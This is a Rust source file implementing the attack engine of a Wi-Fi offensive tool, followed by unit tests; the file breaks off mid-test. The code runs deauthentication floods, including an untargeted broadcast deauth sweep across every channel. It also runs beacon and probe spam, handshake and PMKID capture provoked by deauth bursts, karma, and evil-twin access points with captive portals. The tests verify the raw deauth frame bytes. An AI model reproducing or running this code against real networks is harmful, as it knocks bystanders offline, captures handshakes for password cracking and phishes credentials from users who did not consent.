//! Attack Engine
//!
//! Top-level state machine of the injection engine. Owns the target
//! descriptor, orchestrates the frame builders and the power throttler
//! on each tick, and exposes the public control surface.
//!
//! `tick()` is cooperative and never sleeps: every state carries its own
//! deadlines and the tick simply acts on whichever have expired. The
//! capture path runs independently; its frames are drained from the
//! monitor channel at the top of every tick and fed to the classifier.

pub mod portal;
pub mod session;
pub mod ssid;

use std::sync::Arc;
use std::time::{Duration, Instant};

use crossbeam_channel::Receiver;
use parking_lot::Mutex;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use thiserror::Error;
use tracing::{debug, info, warn};

use crate::capture::CaptureBuffer;
use crate::classify::{ClassifyPolicy, PacketClassifier};
use crate::clients::ClientRegistry;
use crate::config::Config;
use crate::ieee80211::{builder, MacAddr};
use crate::power::{PerfLevel, PowerMode, PowerThrottler, TxPolicy};
use crate::radio::{RadioDriver, RxFrame, MONITOR_QUEUE_DEPTH};

use portal::{CaptivePortal, PortalVariant};
use session::{
    AttackKind, AttackState, AttackStats, DeauthMode, DutyPhase, FloodMode, SessionCounters,
};

const BEACON_BATCH: usize = 64;
const CHAOS_BATCH: usize = 30;
const FLOOD_BATCH_INTERVAL: Duration = Duration::from_millis(100);
const CHAOS_BATCH_INTERVAL: Duration = Duration::from_millis(50);
const PROBE_BATCH: usize = 10;
const PROBE_BATCH_INTERVAL: Duration = Duration::from_millis(100);
/// Cadence of the deauth provocation burst while capturing handshakes
const PROVOKE_INTERVAL: Duration = Duration::from_secs(2);
const SNIPER_STRIKE_INTERVAL: Duration = Duration::from_secs(5);
const NUKE_HOP_INTERVAL: Duration = Duration::from_millis(10);
const NUKE_TOP_CHANNEL: u8 = 13;
const DOWNGRADE_INTERVAL: Duration = Duration::from_millis(10);
const GHOST_TOGGLE_INTERVAL: Duration = Duration::from_millis(500);
const GHOST_SSID: &str = "Ghost Network 👻";

/// The access point under attack. Immutable for the session; replaced
/// wholesale by `set_target`.
#[derive(Debug, Clone)]
pub struct TargetDescriptor {
    pub bssid: MacAddr,
    pub ssid: String,
    pub channel: u8,
}

#[derive(Debug, Error)]
pub enum TargetError {
    #[error("channel {0} outside the 2.4 GHz range 1-14")]
    InvalidChannel(u8),
}

/// Channel for beacon `hop` of a flood: 1/6/11 round-robin with a 10%
/// chance of a fully random channel for unpredictability.
pub(crate) fn flood_channel<R: Rng>(hop: usize, rng: &mut R) -> u8 {
    if rng.gen_range(0..10) > 8 {
        rng.gen_range(1..=13)
    } else {
        [1, 6, 11][hop % 3]
    }
}

/// Radio-frame attack and capture engine
pub struct AttackEngine {
    radio: Box<dyn RadioDriver>,
    portal: Box<dyn CaptivePortal>,
    throttler: PowerThrottler,
    idle_channel: u8,

    target: Option<TargetDescriptor>,
    kind: AttackKind,
    state: AttackState,
    power_mode: PowerMode,
    started: Option<Instant>,

    counters: Arc<SessionCounters>,
    registry: Arc<Mutex<ClientRegistry>>,
    capture: Arc<Mutex<CaptureBuffer>>,
    classifier: PacketClassifier,
    monitor_rx: Option<Receiver<RxFrame>>,

    flood_ssids: Option<Vec<String>>,
    probe_prefix: Option<String>,
    deauth_burst_override: Option<u32>,

    frame_buf: [u8; 256],
    rng: StdRng,
}

impl AttackEngine {
    pub fn new(
        radio: Box<dyn RadioDriver>,
        portal: Box<dyn CaptivePortal>,
        config: &Config,
    ) -> Self {
        let counters = Arc::new(SessionCounters::default());
        let registry = Arc::new(Mutex::new(ClientRegistry::new(config.clients.capacity)));
        let capture = Arc::new(Mutex::new(CaptureBuffer::new(
            config.capture.capacity,
            config.capture.high_water,
        )));
        let classifier =
            PacketClassifier::new(registry.clone(), capture.clone(), counters.clone());

        Self {
            radio,
            portal,
            throttler: PowerThrottler::new(config.power.clone(), config.radio.region_max_tx_dbm),
            idle_channel: config.radio.idle_channel,
            target: None,
            kind: AttackKind::None,
            state: AttackState::Idle,
            power_mode: PowerMode::default(),
            started: None,
            counters,
            registry,
            capture,
            classifier,
            monitor_rx: None,
            flood_ssids: None,
            probe_prefix: None,
            deauth_burst_override: None,
            frame_buf: [0u8; 256],
            rng: StdRng::from_entropy(),
        }
    }

    /// Replace the attack target. Clears the client registry; the SSID is
    /// truncated to 32 bytes.
    pub fn set_target(
        &mut self,
        bssid: MacAddr,
        ssid: &str,
        channel: u8,
    ) -> Result<(), TargetError> {
        if !(1..=14).contains(&channel) {
            return Err(TargetError::InvalidChannel(channel));
        }

        let mut end = ssid.len().min(builder::MAX_SSID_LEN);
        while !ssid.is_char_boundary(end) {
            end -= 1;
        }
        let ssid = ssid[..end].to_string();

        self.registry.lock().clear();
        self.classifier.set_target(Some(bssid));
        info!(%bssid, ssid = %ssid, channel, "target set");
        self.target = Some(TargetDescriptor {
            bssid,
            ssid,
            channel,
        });
        Ok(())
    }

    pub fn target(&self) -> Option<&TargetDescriptor> {
        self.target.as_ref()
    }

    pub fn is_active(&self) -> bool {
        self.kind != AttackKind::None
    }

    pub fn kind(&self) -> AttackKind {
        self.kind
    }

    pub fn set_power_mode(&mut self, mode: PowerMode) {
        self.power_mode = mode;
    }

    pub fn power_mode(&self) -> PowerMode {
        self.power_mode
    }

    /// Shared capture buffer handle for the storage-export collaborator
    pub fn capture_buffer(&self) -> Arc<Mutex<CaptureBuffer>> {
        self.capture.clone()
    }

    /// Shared client registry handle
    pub fn registry(&self) -> Arc<Mutex<ClientRegistry>> {
        self.registry.clone()
    }

    /// Hidden SSID learned in reveal mode, if any
    pub fn revealed_ssid(&self) -> Option<String> {
        self.classifier.revealed_ssid()
    }

    /// SSIDs nearby devices probed for in karma mode
    pub fn probed_ssids(&self) -> Vec<String> {
        self.classifier.probed_ssids()
    }

    /// Direct capture-path entry point for drivers that deliver frames by
    /// callback instead of the monitor channel.
    pub fn on_frame(&self, frame: &[u8], rssi: i8) {
        self.classifier.classify(frame, rssi, Instant::now());
    }

    pub fn stats(&self) -> AttackStats {
        AttackStats {
            kind: self.kind,
            state: self.state.name(),
            frames_sent: self.counters.frames_sent(),
            handshakes_captured: self.counters.handshakes_captured(),
            pmkids_captured: self.counters.pmkids_captured(),
            clients_kicked: self.counters.clients_kicked(),
            tx_errors: self.counters.tx_errors(),
            active: self.is_active(),
            elapsed: self.started.map(|s| s.elapsed()).unwrap_or_default(),
        }
    }

    // ----- start operations ---------------------------------------------

    pub fn start_deauth(&mut self, burst: u32) -> bool {
        let kind = AttackKind::Deauth {
            mode: DeauthMode::Classic,
        };
        if !self.begin(kind, true, false) {
            return false;
        }
        self.deauth_burst_override = Some(burst);
        self.state = self.deauth_state(kind);
        true
    }

    pub fn start_smart_deauth(&mut self) -> bool {
        let kind = AttackKind::Deauth {
            mode: DeauthMode::Smart,
        };
        if !self.begin(kind, true, true) {
            return false;
        }
        self.state = self.deauth_state(kind);
        true
    }

    pub fn start_turbo_deauth(&mut self) -> bool {
        let kind = AttackKind::Deauth {
            mode: DeauthMode::Turbo,
        };
        if !self.begin(kind, true, true) {
            return false;
        }
        self.state = self.deauth_state(kind);
        true
    }

    pub fn start_rickroll(&mut self) -> bool {
        let kind = AttackKind::Deauth {
            mode: DeauthMode::RickRoll,
        };
        if !self.begin(kind, true, false) {
            return false;
        }
        self.state = self.deauth_state(kind);
        true
    }

    pub fn start_beacon_flood(&mut self, ssids: Option<Vec<String>>) -> bool {
        let kind = AttackKind::BeaconFlood {
            mode: FloodMode::Normal,
        };
        if self.kind == kind {
            return true;
        }
        if !self.begin(kind, false, false) {
            return false;
        }
        self.flood_ssids = ssids.filter(|list| !list.is_empty());
        self.state = AttackState::FloodingBeacons {
            next_batch: Instant::now(),
            hop_idx: 0,
        };
        true
    }

    pub fn start_ap_flood_chaos(&mut self) -> bool {
        let kind = AttackKind::BeaconFlood {
            mode: FloodMode::Chaos,
        };
        if !self.begin(kind, false, false) {
            return false;
        }
        self.state = AttackState::FloodingBeacons {
            next_batch: Instant::now(),
            hop_idx: 0,
        };
        true
    }

    pub fn start_probe_flood(&mut self, prefix: Option<String>) -> bool {
        if !self.begin(AttackKind::ProbeSpam, false, false) {
            return false;
        }
        self.probe_prefix = prefix;
        self.state = AttackState::SpammingProbes {
            next_batch: Instant::now(),
        };
        true
    }

    pub fn start_handshake_capture(&mut self) -> bool {
        if !self.begin(AttackKind::HandshakeCapture, true, true) {
            return false;
        }
        self.state = AttackState::CapturingHandshakes {
            next_provoke: Instant::now(),
        };
        true
    }

    pub fn start_pmkid_attack(&mut self) -> bool {
        if !self.begin(AttackKind::PmkidCapture, true, true) {
            return false;
        }
        self.state = AttackState::CapturingHandshakes {
            next_provoke: Instant::now(),
        };
        true
    }

    pub fn start_handshake_sniper(&mut self) -> bool {
        if !self.begin(AttackKind::HandshakeSniper, true, true) {
            return false;
        }
        self.state = AttackState::SniperCapturing {
            next_strike: Instant::now(),
        };
        true
    }

    pub fn start_karma(&mut self) -> bool {
        if !self.begin(AttackKind::Karma, false, true) {
            return false;
        }
        self.classifier.clear_probe_log();
        self.state = AttackState::KarmaListening;
        true
    }

    pub fn start_ghost_ap(&mut self) -> bool {
        if !self.begin(AttackKind::GhostAp, false, false) {
            return false;
        }
        self.state = AttackState::GhostToggling {
            ap_up: false,
            toggle_at: Instant::now(),
        };
        true
    }

    pub fn start_one_tap_nuke(&mut self) -> bool {
        if !self.begin(AttackKind::OneTapNuke, false, false) {
            return false;
        }
        self.state = AttackState::NukeSweeping {
            channel: 1,
            next_hop: Instant::now(),
        };
        true
    }

    pub fn start_downgrade_attack(&mut self) -> bool {
        if !self.begin(AttackKind::DowngradeSpoof, true, false) {
            return false;
        }
        self.state = AttackState::DowngradeSpoofing {
            next_frame: Instant::now(),
        };
        true
    }

    pub fn start_hidden_ssid_reveal(&mut self) -> bool {
        if !self.begin(AttackKind::HiddenSsidReveal, true, true) {
            return false;
        }
        self.state = AttackState::RevealingHiddenSsid;
        true
    }

    pub fn start_evil_twin(&mut self, ssid: &str, variant: PortalVariant) -> bool {
        if !self.begin(AttackKind::EvilTwin, true, false) {
            return false;
        }

        // Randomized so modern clients don't reject a cloned BSSID
        let bssid = MacAddr::random_local(&mut self.rng);
        info!(%bssid, "evil twin BSSID randomized");

        if let Err(e) = self.portal.begin(ssid, variant) {
            warn!("captive portal failed to start: {e}");
            self.stop_attack();
            return false;
        }

        let channel = self
            .target
            .as_ref()
            .map(|t| t.channel)
            .unwrap_or(self.idle_channel);
        if let Err(e) = self.radio.start_ap(ssid, channel, bssid) {
            warn!("evil twin AP failed to start: {e}");
            self.stop_attack();
            return false;
        }

        self.state = AttackState::EvilTwinActive;
        true
    }

    /// Stop the running attack. Idempotent; disables monitor delivery
    /// before resetting state so no further capture frames are dispatched
    /// for the stopped session.
    pub fn stop_attack(&mut self) {
        if self.kind == AttackKind::None && matches!(self.state, AttackState::Idle) {
            return;
        }

        info!(kind = %self.kind, "stopping attack");
        self.radio.stop_monitor();
        self.monitor_rx = None;
        self.radio.stop_ap();
        self.portal.stop();
        self.apply_tx_power(self.throttler.standard_tx_dbm());
        self.radio.set_performance(PerfLevel::Balanced);
        self.classifier.set_policy(ClassifyPolicy::off());

        self.flood_ssids = None;
        self.probe_prefix = None;
        self.deauth_burst_override = None;
        self.kind = AttackKind::None;
        self.state = AttackState::Idle;
    }

    /// Advance the state machine. Non-blocking: drains pending monitor
    /// frames, then acts on whichever per-state deadlines have expired.
    pub fn tick(&mut self, now: Instant) {
        self.drain_monitor(now);

        if self.kind == AttackKind::None {
            return;
        }

        let elapsed = self
            .started
            .map(|s| now.saturating_duration_since(s))
            .unwrap_or_default();
        let policy = self.throttler.policy(self.kind, self.power_mode, elapsed);
        self.radio.set_performance(policy.perf);

        let state = std::mem::replace(&mut self.state, AttackState::Idle);
        self.state = self.step(state, now, &policy);
    }

    // ----- internals ----------------------------------------------------

    /// A refused TX power change is logged, never fatal: the radio keeps
    /// its previous level and the session runs on.
    fn apply_tx_power(&mut self, dbm: i8) {
        if let Err(e) = self.radio.set_tx_power(dbm) {
            warn!(dbm, "failed to set TX power: {e}");
        }
    }

    fn begin(&mut self, kind: AttackKind, needs_target: bool, monitor: bool) -> bool {
        if self.is_active() {
            self.stop_attack();
        }

        if needs_target && self.target.is_none() {
            warn!(%kind, "refusing to start attack: no target set");
            return false;
        }

        if monitor {
            match self.radio.start_monitor() {
                Ok(rx) => self.monitor_rx = Some(rx),
                Err(e) => {
                    warn!(%kind, "monitor mode unavailable: {e}");
                    return false;
                }
            }
        }

        if let Some(channel) = self.target.as_ref().map(|t| t.channel) {
            self.assert_channel(channel);
        }

        self.counters.reset();
        self.classifier.set_policy(ClassifyPolicy::for_kind(kind));
        self.kind = kind;
        self.started = Some(Instant::now());

        let policy = self.throttler.policy(kind, self.power_mode, Duration::ZERO);
        self.apply_tx_power(policy.tx_power_dbm);
        self.radio.set_pacing(policy.frame_gap);
        self.radio.set_performance(policy.perf);

        info!(%kind, "attack started");
        true
    }

    fn deauth_state(&self, kind: AttackKind) -> AttackState {
        let policy = self
            .throttler
            .policy(kind, self.power_mode, Duration::ZERO);
        let now = Instant::now();
        AttackState::Deauthenticating {
            phase: DutyPhase::On,
            phase_until: now + policy.duty_on,
            next_burst: now,
        }
    }

    fn drain_monitor(&self, now: Instant) {
        let Some(rx) = &self.monitor_rx else {
            return;
        };
        // Bounded drain so a flooded queue cannot stall the tick
        for _ in 0..MONITOR_QUEUE_DEPTH {
            match rx.try_recv() {
                Ok(frame) => self.classifier.classify(&frame.data, frame.rssi, now),
                Err(_) => break,
            }
        }
    }

    fn step(&mut self, state: AttackState, now: Instant, policy: &TxPolicy) -> AttackState {
        match state {
            AttackState::Idle => AttackState::Idle,
            AttackState::EvilTwinActive => AttackState::EvilTwinActive,
            AttackState::RevealingHiddenSsid => AttackState::RevealingHiddenSsid,
            AttackState::KarmaListening => AttackState::KarmaListening,
            AttackState::Deauthenticating {
                phase,
                phase_until,
                next_burst,
            } => self.step_deauth(phase, phase_until, next_burst, now, policy),
            AttackState::FloodingBeacons { next_batch, hop_idx } => {
                self.step_flood(next_batch, hop_idx, now)
            }
            AttackState::SpammingProbes { next_batch } => self.step_probe_spam(next_batch, now),
            AttackState::CapturingHandshakes { next_provoke } => {
                self.step_capture(next_provoke, now, policy)
            }
            AttackState::SniperCapturing { next_strike } => self.step_sniper(next_strike, now),
            AttackState::GhostToggling { ap_up, toggle_at } => {
                self.step_ghost(ap_up, toggle_at, now)
            }
            AttackState::NukeSweeping { channel, next_hop } => {
                self.step_nuke(channel, next_hop, now, policy)
            }
            AttackState::DowngradeSpoofing { next_frame } => {
                self.step_downgrade(next_frame, now)
            }
        }
    }

    fn step_deauth(
        &mut self,
        phase: DutyPhase,
        phase_until: Instant,
        next_burst: Instant,
        now: Instant,
        policy: &TxPolicy,
    ) -> AttackState {
        let smart = matches!(
            self.kind,
            AttackKind::Deauth {
                mode: DeauthMode::Smart
            }
        );
        let turbo = self.power_mode.turbo
            || matches!(
                self.kind,
                AttackKind::Deauth {
                    mode: DeauthMode::Turbo
                }
            );
        let reason = match self.kind {
            AttackKind::Deauth {
                mode: DeauthMode::RickRoll,
            } => builder::REASON_8021X_AUTH_FAILED,
            _ => builder::REASON_CLASS3_FRAME,
        };

        match phase {
            DutyPhase::On => {
                if now >= phase_until {
                    // Keep the radio cool through the off phase
                    self.apply_tx_power(self.throttler.eco_tx_dbm());
                    return AttackState::Deauthenticating {
                        phase: DutyPhase::Off,
                        phase_until: now + policy.duty_off,
                        next_burst,
                    };
                }

                if turbo || now >= next_burst {
                    let Some((bssid, channel)) =
                        self.target.as_ref().map(|t| (t.bssid, t.channel))
                    else {
                        return AttackState::Idle;
                    };

                    let mut burst_policy = policy.clone();
                    if let Some(burst) = self.deauth_burst_override {
                        burst_policy.burst_size = burst;
                    }
                    self.deauth_burst(bssid, Some(channel), smart, reason, &burst_policy);

                    let next = if smart || turbo {
                        now + policy.burst_cadence
                    } else {
                        let jitter = self
                            .rng
                            .gen_range(0..=policy.inter_burst_jitter.as_millis() as u64);
                        now + policy.inter_burst + Duration::from_millis(jitter)
                    };
                    return AttackState::Deauthenticating {
                        phase: DutyPhase::On,
                        phase_until,
                        next_burst: next,
                    };
                }

                AttackState::Deauthenticating {
                    phase: DutyPhase::On,
                    phase_until,
                    next_burst,
                }
            }
            DutyPhase::Off => {
                if now >= phase_until {
                    self.apply_tx_power(policy.tx_power_dbm);
                    return AttackState::Deauthenticating {
                        phase: DutyPhase::On,
                        phase_until: now + policy.duty_on,
                        next_burst: now,
                    };
                }
                AttackState::Deauthenticating {
                    phase: DutyPhase::Off,
                    phase_until,
                    next_burst,
                }
            }
        }
    }

    fn step_flood(&mut self, next_batch: Instant, hop_idx: usize, now: Instant) -> AttackState {
        if now < next_batch {
            return AttackState::FloodingBeacons { next_batch, hop_idx };
        }

        let chaos = matches!(
            self.kind,
            AttackKind::BeaconFlood {
                mode: FloodMode::Chaos
            }
        );

        if chaos {
            for _ in 0..CHAOS_BATCH {
                let channel = self.rng.gen_range(1..=NUKE_TOP_CHANNEL);
                self.assert_channel(channel);
                let ssid = ssid::chaos(&mut self.rng);
                match builder::build_beacon(&mut self.frame_buf, ssid, channel, &mut self.rng) {
                    Ok(len) => {
                        self.transmit(len);
                    }
                    Err(e) => debug!("beacon build failed: {e}"),
                }
            }
            return AttackState::FloodingBeacons {
                next_batch: now + CHAOS_BATCH_INTERVAL,
                hop_idx,
            };
        }

        let mut hop = hop_idx;
        for i in 0..BEACON_BATCH {
            let channel = flood_channel(hop, &mut self.rng);
            hop += 1;
            self.assert_channel(channel);

            let name: String = match &self.flood_ssids {
                Some(list) => list[i % list.len()].clone(),
                None if i < ssid::DEFAULT_SSIDS.len() => ssid::DEFAULT_SSIDS[i].to_string(),
                None => ssid::generate(i, &mut self.rng),
            };

            match builder::build_beacon(&mut self.frame_buf, &name, channel, &mut self.rng) {
                Ok(len) => {
                    // Double send for stability on lossy air
                    self.transmit(len);
                    self.transmit(len);
                }
                Err(e) => debug!("beacon build failed: {e}"),
            }
        }

        AttackState::FloodingBeacons {
            next_batch: now + FLOOD_BATCH_INTERVAL,
            hop_idx: hop,
        }
    }

    fn step_probe_spam(&mut self, next_batch: Instant, now: Instant) -> AttackState {
        if now < next_batch {
            return AttackState::SpammingProbes { next_batch };
        }

        let prefix = self.probe_prefix.clone();
        for _ in 0..PROBE_BATCH {
            let name = match &prefix {
                Some(p) => format!("{p} {}", ssid::device(&mut self.rng)),
                None => ssid::device(&mut self.rng).to_string(),
            };
            match builder::build_probe_request(&mut self.frame_buf, &name, &mut self.rng) {
                Ok(len) => {
                    self.transmit(len);
                }
                Err(e) => debug!("probe build failed: {e}"),
            }
        }

        AttackState::SpammingProbes {
            next_batch: now + PROBE_BATCH_INTERVAL,
        }
    }

    fn step_capture(
        &mut self,
        next_provoke: Instant,
        now: Instant,
        policy: &TxPolicy,
    ) -> AttackState {
        // PMKID capture is client-less; provoking defeats its purpose
        if self.kind == AttackKind::PmkidCapture || now < next_provoke {
            return AttackState::CapturingHandshakes { next_provoke };
        }

        if let Some((bssid, channel)) = self.target.as_ref().map(|t| (t.bssid, t.channel)) {
            self.deauth_burst(
                bssid,
                Some(channel),
                false,
                builder::REASON_CLASS3_FRAME,
                policy,
            );
        }

        AttackState::CapturingHandshakes {
            next_provoke: now + PROVOKE_INTERVAL,
        }
    }

    fn step_sniper(&mut self, next_strike: Instant, now: Instant) -> AttackState {
        if now < next_strike || self.registry.lock().is_empty() {
            return AttackState::SniperCapturing { next_strike };
        }

        let Some((bssid, channel)) = self.target.as_ref().map(|t| (t.bssid, t.channel)) else {
            return AttackState::SniperCapturing { next_strike };
        };

        info!("sniper striking known clients");
        let turbo = self.throttler.policy(
            AttackKind::Deauth {
                mode: DeauthMode::Turbo,
            },
            PowerMode::default(),
            Duration::ZERO,
        );
        self.deauth_burst(bssid, Some(channel), true, builder::REASON_CLASS3_FRAME, &turbo);

        AttackState::SniperCapturing {
            next_strike: now + SNIPER_STRIKE_INTERVAL,
        }
    }

    fn step_ghost(&mut self, ap_up: bool, toggle_at: Instant, now: Instant) -> AttackState {
        if now < toggle_at {
            return AttackState::GhostToggling { ap_up, toggle_at };
        }

        if ap_up {
            self.radio.stop_ap();
        } else {
            let bssid = MacAddr::random_local(&mut self.rng);
            if let Err(e) = self.radio.start_ap(GHOST_SSID, self.idle_channel, bssid) {
                warn!("ghost AP failed to start: {e}");
            }
        }

        AttackState::GhostToggling {
            ap_up: !ap_up,
            toggle_at: now + GHOST_TOGGLE_INTERVAL,
        }
    }

    fn step_nuke(
        &mut self,
        channel: u8,
        next_hop: Instant,
        now: Instant,
        policy: &TxPolicy,
    ) -> AttackState {
        if now < next_hop {
            return AttackState::NukeSweeping { channel, next_hop };
        }

        self.assert_channel(channel);
        // No target scope: broadcast deauth on every channel swept
        let bssid = self
            .target
            .as_ref()
            .map(|t| t.bssid)
            .unwrap_or(MacAddr::ZERO);
        self.deauth_burst(bssid, None, false, builder::REASON_CLASS3_FRAME, policy);

        let next_channel = if channel >= NUKE_TOP_CHANNEL {
            1
        } else {
            channel + 1
        };
        AttackState::NukeSweeping {
            channel: next_channel,
            next_hop: now + NUKE_HOP_INTERVAL,
        }
    }

    fn step_downgrade(&mut self, next_frame: Instant, now: Instant) -> AttackState {
        if now < next_frame {
            return AttackState::DowngradeSpoofing { next_frame };
        }

        if let Some((bssid, channel)) = self.target.as_ref().map(|t| (t.bssid, t.channel)) {
            self.assert_channel(channel);
            match builder::build_deauth(
                &mut self.frame_buf,
                bssid,
                MacAddr::BROADCAST,
                builder::REASON_PREV_AUTH_EXPIRED,
            ) {
                Ok(len) => {
                    self.transmit(len);
                }
                Err(e) => debug!("deauth build failed: {e}"),
            }
        }

        AttackState::DowngradeSpoofing {
            next_frame: now + DOWNGRADE_INTERVAL,
        }
    }

    /// Re-assert the wanted channel before transmitting; another part of
    /// the system may have drifted the radio (e.g. a concurrent scan).
    fn assert_channel(&mut self, channel: u8) {
        if self.radio.channel() != Some(channel) {
            if let Err(e) = self.radio.set_channel(channel) {
                warn!(channel, "failed to tune radio: {e}");
            }
        }
    }

    /// Transmit the staged frame, absorbing failures into the counters
    fn transmit(&mut self, len: usize) -> bool {
        use std::sync::atomic::Ordering;

        match self.radio.transmit(&self.frame_buf[..len]) {
            Ok(()) => {
                self.counters.frames_sent.fetch_add(1, Ordering::Relaxed);
                true
            }
            Err(e) => {
                let n = self.counters.tx_errors.fetch_add(1, Ordering::Relaxed) + 1;
                if n == 1 || n % 100 == 0 {
                    warn!(errors = n, "transmit failed: {e}");
                }
                false
            }
        }
    }

    /// One deauthentication burst. Smart mode sends per known client in
    /// insertion order; otherwise a broadcast burst, approximating one
    /// kicked client per ten frames.
    fn deauth_burst(
        &mut self,
        bssid: MacAddr,
        channel: Option<u8>,
        smart: bool,
        reason: u16,
        policy: &TxPolicy,
    ) {
        use std::sync::atomic::Ordering;

        if let Some(channel) = channel {
            self.assert_channel(channel);
        }

        if smart {
            let clients: Vec<MacAddr> =
                self.registry.lock().all().iter().map(|c| c.mac).collect();
            if !clients.is_empty() {
                for client in clients {
                    match builder::build_deauth(&mut self.frame_buf, bssid, client, reason) {
                        Ok(len) => {
                            for _ in 0..policy.burst_size {
                                if self.transmit(len) {
                                    self.counters.clients_kicked.fetch_add(1, Ordering::Relaxed);
                                }
                            }
                        }
                        Err(e) => debug!("deauth build failed: {e}"),
                    }
                }
                return;
            }
            // No clients discovered yet; fall back to broadcast
        }

        match builder::build_deauth(&mut self.frame_buf, bssid, MacAddr::BROADCAST, reason) {
            Ok(len) => {
                for _ in 0..policy.burst_size {
                    if self.transmit(len) && self.counters.frames_sent() % 10 == 0 {
                        self.counters.clients_kicked.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }
            Err(e) => debug!("deauth build failed: {e}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::radio::DummyRadio;
    use portal::{NullPortal, PortalError};
    use std::collections::HashMap;

    const TARGET: MacAddr = MacAddr::new([0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff]);
    const CLIENT_A: MacAddr = MacAddr::new([0x11, 0x12, 0x13, 0x14, 0x15, 0x16]);
    const CLIENT_B: MacAddr = MacAddr::new([0x21, 0x22, 0x23, 0x24, 0x25, 0x26]);

    fn engine(radio: &DummyRadio) -> AttackEngine {
        AttackEngine::new(
            Box::new(radio.clone()),
            Box::new(NullPortal),
            &Config::default(),
        )
    }

    fn targeted_engine(radio: &DummyRadio) -> AttackEngine {
        let mut e = engine(radio);
        e.set_target(TARGET, "TestNet", 6).unwrap();
        e
    }

    struct FailingPortal;

    impl CaptivePortal for FailingPortal {
        fn begin(&mut self, _ssid: &str, _variant: PortalVariant) -> Result<(), PortalError> {
            Err(PortalError::Startup("no heap for web server".into()))
        }
        fn stop(&mut self) {}
    }

    #[test]
    fn test_set_target_validates_channel() {
        let radio = DummyRadio::new();
        let mut e = engine(&radio);
        assert!(e.set_target(TARGET, "Net", 0).is_err());
        assert!(e.set_target(TARGET, "Net", 15).is_err());
        assert!(e.set_target(TARGET, "Net", 14).is_ok());
    }

    #[test]
    fn test_set_target_truncates_ssid_and_clears_registry() {
        let radio = DummyRadio::new();
        let mut e = engine(&radio);
        e.registry()
            .lock()
            .upsert(CLIENT_A, -50, Instant::now());

        e.set_target(TARGET, &"N".repeat(64), 6).unwrap();
        assert_eq!(e.target().unwrap().ssid.len(), 32);
        assert!(e.registry().lock().is_empty());
    }

    #[test]
    fn test_start_without_target_fails_closed() {
        let radio = DummyRadio::new();
        let mut e = engine(&radio);

        assert!(!e.start_deauth(10));
        assert!(!e.start_smart_deauth());
        assert!(!e.start_handshake_capture());
        assert!(!e.start_downgrade_attack());
        assert!(!e.start_hidden_ssid_reveal());
        assert!(!e.is_active());
        assert_eq!(e.stats().state, "idle");

        // Targetless attacks still start
        assert!(e.start_beacon_flood(None));
        e.stop_attack();
        assert!(e.start_karma());
        e.stop_attack();
        assert!(e.start_one_tap_nuke());
    }

    #[test]
    fn test_single_active_attack_invariant() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_smart_deauth());
        assert!(radio.monitor_active());

        // Starting another attack stops the previous one first
        assert!(e.start_beacon_flood(None));
        assert!(!radio.monitor_active());
        assert_eq!(
            e.kind(),
            AttackKind::BeaconFlood {
                mode: FloodMode::Normal
            }
        );
    }

    #[test]
    fn test_stop_attack_twice_is_noop() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_turbo_deauth());
        e.stop_attack();
        assert!(!e.is_active());
        assert!(!radio.monitor_active());
        // TX power restored to the standard tier
        assert_eq!(radio.tx_power(), 10);

        e.stop_attack();
        assert!(!e.is_active());
    }

    #[test]
    fn test_tx_power_failure_not_fatal() {
        let radio = DummyRadio::new();
        radio.set_fail_tx_power(true);
        let mut e = targeted_engine(&radio);

        // Start, burst, and duty transitions all survive the refused level
        assert!(e.start_deauth(5));
        let t0 = Instant::now();
        e.tick(t0);
        assert_eq!(radio.stats().transmitted, 5);

        e.tick(t0 + Duration::from_millis(2100));
        assert_eq!(e.stats().state, "deauth-off");

        e.stop_attack();
        assert!(!e.is_active());
    }

    #[test]
    fn test_classic_deauth_burst_and_duty_cycle() {
        let radio = DummyRadio::recording();
        let mut e = targeted_engine(&radio);

        assert!(e.start_deauth(10));
        let t0 = Instant::now();
        e.tick(t0);

        assert_eq!(radio.stats().transmitted, 10);
        let frame = &radio.transmitted()[0];
        assert_eq!(frame.len(), 26);
        assert_eq!(&frame[0..2], &[0xc0, 0x00]);
        assert_eq!(&frame[4..10], MacAddr::BROADCAST.as_bytes());
        assert_eq!(&frame[10..16], TARGET.as_bytes());
        assert_eq!(&frame[16..22], TARGET.as_bytes());
        assert_eq!(frame[24], 7);

        // ON phase expires after 2 s; OFF phase transmits nothing and
        // drops TX power to the eco tier
        e.tick(t0 + Duration::from_millis(2100));
        assert_eq!(e.stats().state, "deauth-off");
        assert_eq!(radio.tx_power(), 8);

        let sent = radio.stats().transmitted;
        e.tick(t0 + Duration::from_millis(2300));
        assert_eq!(radio.stats().transmitted, sent);

        // Back to ON after 500 ms
        e.tick(t0 + Duration::from_millis(2700));
        assert_eq!(e.stats().state, "deauth-on");
        assert_eq!(radio.tx_power(), 10);
    }

    #[test]
    fn test_turbo_deauth_bursts_every_tick() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_turbo_deauth());
        let t0 = Instant::now();
        e.tick(t0);
        e.tick(t0 + Duration::from_millis(1));

        assert_eq!(radio.stats().transmitted, 80);
        assert_eq!(e.stats().frames_sent, 80);
    }

    #[test]
    fn test_smart_deauth_discovers_then_kicks_in_order() {
        let radio = DummyRadio::recording();
        let mut e = targeted_engine(&radio);

        assert!(e.start_smart_deauth());
        radio.inject_data_frame(TARGET, CLIENT_A, -50);
        radio.inject_data_frame(TARGET, CLIENT_B, -55);

        let t0 = Instant::now();
        e.tick(t0);

        let registry = e.registry();
        {
            let reg = registry.lock();
            assert_eq!(reg.len(), 2);
            assert_eq!(reg.all()[0].mac, CLIENT_A);
        }

        // One standard burst per client, unicast, insertion order
        let frames = radio.transmitted();
        assert_eq!(frames.len(), 20);
        for frame in &frames[..10] {
            assert_eq!(&frame[4..10], CLIENT_A.as_bytes());
        }
        for frame in &frames[10..] {
            assert_eq!(&frame[4..10], CLIENT_B.as_bytes());
        }
        assert_eq!(e.stats().clients_kicked, 20);
    }

    #[test]
    fn test_channel_reasserted_after_drift() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_deauth(5));
        let t0 = Instant::now();
        e.tick(t0);
        assert_eq!(radio.channel(), Some(6));

        // Something else drifts the radio between bursts
        let mut drifter = radio.clone();
